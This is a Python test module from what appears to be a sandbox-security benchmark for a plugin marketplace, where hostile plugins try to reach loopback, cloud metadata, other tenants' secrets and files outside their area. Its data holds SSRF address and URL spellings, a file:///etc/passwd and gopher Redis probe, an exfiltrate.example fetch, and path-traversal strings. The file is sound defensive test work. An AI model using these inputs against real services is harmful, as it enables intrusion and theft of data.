"""D: guests that reach for what they do not hold."""

import unicodedata
from dataclasses import replace

from aei_marketplace.bench.hostile.assembly import AREA, REPLY, TASK, UNQUOTED, Guest
from aei_marketplace.bench.hostile.attempt import (
    BehindTheGate,
    Case,
    Execution,
    Judge,
    Publication,
    Scenario,
    Seen,
    expect,
)
from aei_marketplace.bench.hostile.cases.wasi import through_wasi
from aei_marketplace.bench.hostile.field import SECRET, Field
from aei_marketplace.bench.hostile.kit import project_plugin
from aei_marketplace.bench.hostile.plugin import ORIGIN, ORIGIN_PORT, Plugin
from aei_marketplace.bench.hostile.rebinding import rebinding_host
from aei_marketplace.bench.hostile.tenants import Tenant
from aei_protocol.interface import import_name

HERE = f"{ORIGIN}:{ORIGIN_PORT}"
_NETWORK = {"network": {"hosts": [HERE]}}

FETCHER = Plugin(
    "fetcher",
    lambda: Guest("http.fetch").build(f"(call $http_fetch {TASK} {AREA}) {REPLY}"),
    permissions=_NETWORK,
)
UNREQUESTED = replace(FETCHER, name="unrequested", permissions={})
#: Imports `log` as the host names it, with another type.
FOREIGN_TYPE = Plugin(
    "foreign-type",
    lambda: Guest().build(
        f"(call $ok {TASK})",
        component=f'(import "{import_name("log")}" (instance (export "log" (func (param "level" u32)))))',
    ),
)
SECRET_READER = Plugin(
    "secret-reader",
    lambda: Guest("secrets.get").build(f"(call $secrets_get {UNQUOTED} {AREA}) {REPLY}"),
    permissions={"secrets": {"names": ["OWN_KEY", SECRET]}},
    grants={"secrets": {"names": ["OWN_KEY"]}},
)
#: Asks for DNS names; only the resolver under test knows what they are.
REBOUND = Plugin(
    "rebound",
    FETCHER.build,
    permissions={"network": {"hosts": ["rebound.example:80", "mixed.example:80"]}},
)

_LOOPBACK = (  # written out: what resolvers and parsers of other programs take for loopback
    "127.0.0.1", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001",
    "127.0.0.1.", "localhost", "LOCALHOST", "localhost.", "app.localhost", "ip6-localhost", "0",
    "0.0.0.0",  # noqa: S104 to be refused, not bound to
    "[::1]", "[::]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::7f00:1]",
    "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
)  # fmt: skip
_PRIVATE = (
    "10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "2852039166", "0xa9fea9fe", "100.64.0.1",
    "[fd00::1]", "[fe80::1]", "[fe80::1%25eth0]", "[fec0::1]", "[fd00:ec2::254]", "[ff02::1]",
    "metadata.google.internal", "１２７.0.0.1", "①②⑦.0.0.1",
)  # fmt: skip
_CONFUSING = (
    f"http://{HERE}@127.0.0.1/", f"http://127.0.0.1#@{HERE}/", f"http://127.0.0.1\\@{HERE}/",
    f"http:///127.0.0.1/{HERE}", f"http://{ORIGIN}:{ORIGIN_PORT}@evil.example/", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO", f"https://{ORIGIN}.evil.example/", f"http://{ORIGIN}:22/",
)  # fmt: skip
#: Every spelling of a place that no plugin may reach.
URLS = (*(f"http://{host}/" for host in (*_LOOPBACK, *_PRIVATE)), *_CONFUSING)

#: Names of other tenants' secrets, of those not granted, and of none.
SECRET_NAMES = (
    SECRET,
    "ABSENT",
    "tenant-1/CANARY_KEY",
    "tenant-1:CANARY_KEY",
    "../tenant-1/CANARY_KEY",
    "",
    "*",
)

_E_ACUTE = "\N{LATIN SMALL LETTER E WITH ACUTE}"
PATHS = (
    "../tenant-1/canary", "persistent/../../canary", "persistent/../scratch/canary", "/etc/passwd",
    "persistent//etc/passwd", "persistent/./canary", "persistent\\..\\canary", "persistent/canary\x00.txt",
    "tenant-1:persistent/canary", "persistent/%00", "persistent/%2e%2e/canary", "persistent/canary",
    "persistent/" + "k" * 1_000_000, f"persistent/{unicodedata.normalize('NFD', _E_ACUTE)}",
    f"persistent/{_E_ACUTE}", "persistent", "persistent/", "PERSISTENT/canary",
    "scratch/../persistent/canary",
)  # fmt: skip


def all_denied(seen: Seen) -> str | None:
    """No fetch may have got an answer, and each target must have been counted."""
    answers = seen.output if isinstance(seen.output, list) else []
    reached = [url for url, answer in zip(URLS, answers, strict=False) if "code" not in answer]
    if len(answers) != len(URLS) or reached:
        return f"{len(answers)} answers of {len(URLS)}, reached: {reached}"
    return None if seen.denied else "no denial was counted"


def names_the_host_only(host: str) -> Judge:
    """The denial names a host, and nothing of path or query."""

    def judge(seen: Seen) -> str | None:
        wanted = {f"network {host}"}
        return None if seen.targets() == wanted else f"denied {sorted(seen.targets())}, not {sorted(wanted)}"

    return judge


def same_answers(seen: Seen) -> str | None:
    """Absent, not granted and another tenant's must be told in the same words."""
    answers = seen.output if isinstance(seen.output, list) else []
    if len(answers) != len(SECRET_NAMES):
        return f"answers: {answers}"
    different = [name for name, answer in zip(SECRET_NAMES, answers, strict=True) if answer != answers[1]]
    return f"told otherwise than an absent name: {different}" if different else None


def no_file_found(seen: Seen) -> str | None:
    """Nothing may have been read: the attacker has written nothing."""
    answers = seen.output if isinstance(seen.output, list) else []
    read = [path[:60] for path, answer in zip(PATHS, answers, strict=False) if "ok" in answer]
    return f"read: {read}" if read or len(answers) != len(PATHS) else None


def not_followed(seen: Seen) -> str | None:
    """The redirect's target must have been denied."""
    return None if any("169.254.169.254" in t for t in seen.targets()) else f"denied {sorted(seen.targets())}"


async def rebind(place: Field, attacker: Tenant, number: int) -> list[Seen]:  # noqa: ARG001 each round is the same
    """A host with a resolver that changes its mind: public first, loopback next, or both at once."""
    async with rebinding_host() as host:
        return await host.fetch(attacker, REBOUND)


CASES = (
    Case(
        "D01",
        "imports an interface that its manifest does not request, or one with another type",
        "refused at the gate, and by the host",
        (
            Publication(lambda id, version, _: UNREQUESTED.package(version, id), expect("overreach")),
            BehindTheGate(UNREQUESTED, expect("overreach")),
            Publication(
                lambda id, version, _: FOREIGN_TYPE.package(version, id),
                expect("foreign_signature", "invalid_component"),
                how="foreign type published",
            ),
            BehindTheGate(FOREIGN_TYPE, expect("overreach"), how="foreign type behind the gate"),
        ),
    ),
    Case(
        "D02",
        "reads /etc/passwd, lists /",
        "no file system: trap without WASI, refused with it",
        through_wasi("read passwords", "preopens"),
    ),
    Case(
        "D03",
        "writes a file at the root",
        "no file system: trap without WASI, refused with it",
        through_wasi("write root", "preopens"),
    ),
    Case(
        "D04",
        "reads environment and arguments",
        "none are there: empty or trap without WASI, refused with it",
        (
            Execution(
                project_plugin("wild.python"),
                expect(
                    "ok",
                    "trap",
                    "guest_error",
                    judge=lambda seen: (
                        None
                        if seen.outcome != "ok" or seen.output == {"environ": {}, "argv": []}
                        else f"found {seen.output}"
                    ),
                ),
                {"do": "tell surroundings"},
                how="built without WASI",
            ),
            *through_wasi("tell surroundings", "environment")[1:],
        ),
    ),
    Case(
        "D05",
        "opens a socket of its own",
        "none are there: trap without WASI, refused with it",
        through_wasi("connect", "sockets", port=22),
    ),
    Case(
        "D06",
        "looks a name up in the DNS",
        "none is there: trap without WASI, refused with it",
        through_wasi("look up", "look-up"),
    ),
    Case(
        "D07",
        "fetches from a host that is not in its manifest",
        "denied, the host alone recorded",
        (
            Execution(
                FETCHER,
                expect("denied", judge=names_the_host_only("exfiltrate.example")),
                {"url": "https://exfiltrate.example/drop?with=words"},
            ),
        ),
    ),
    Case(
        "D08",
        f"fetches from loopback, metadata and private ranges in {len(URLS)} spellings",
        "each one denied or refused as malformed",
        (
            Execution(
                project_plugin("wild.python"),
                expect("ok", judge=all_denied),
                {"do": "fetch", "urls": list(URLS)},
            ),
        ),
    ),
    Case(
        "D09",
        "DNS rebinding: public first, loopback second, or both at once",
        "resolved once and pinned; denied when any answer is private",
        (Scenario(rebind, expect("denied"), how="with a resolver of its own"),),
    ),
    Case(
        "D10",
        "an allowed host redirects to the metadata service",
        "the redirect is judged like a request of its own: denied",
        (
            Execution(FETCHER, expect("denied", judge=not_followed), {"url": f"http://{HERE}/redirect"}),
            Execution(
                FETCHER, expect("denied"), {"url": f"http://{HERE}/redirect-inside"}, how="to loopback"
            ),
        ),
    ),
    Case(
        "D11",
        "asks for another tenant's secret, and for one that is not granted",
        "denied, in the same words as an absent one",
        (
            Execution(SECRET_READER, expect("denied"), SECRET),
            Execution(
                project_plugin("wild.python"),
                expect("ok", judge=same_answers),
                {"do": "ask secrets", "names": list(SECRET_NAMES)},
            ),
        ),
    ),
    Case(
        "D12",
        f"file names that lead elsewhere, {len(PATHS)} of them",
        "inside its own area, or refused",
        (
            Execution(
                project_plugin("wild.python"),
                expect("ok", judge=no_file_found),
                {"do": "reach files", "paths": list(PATHS)},
            ),
        ),
    ),
)
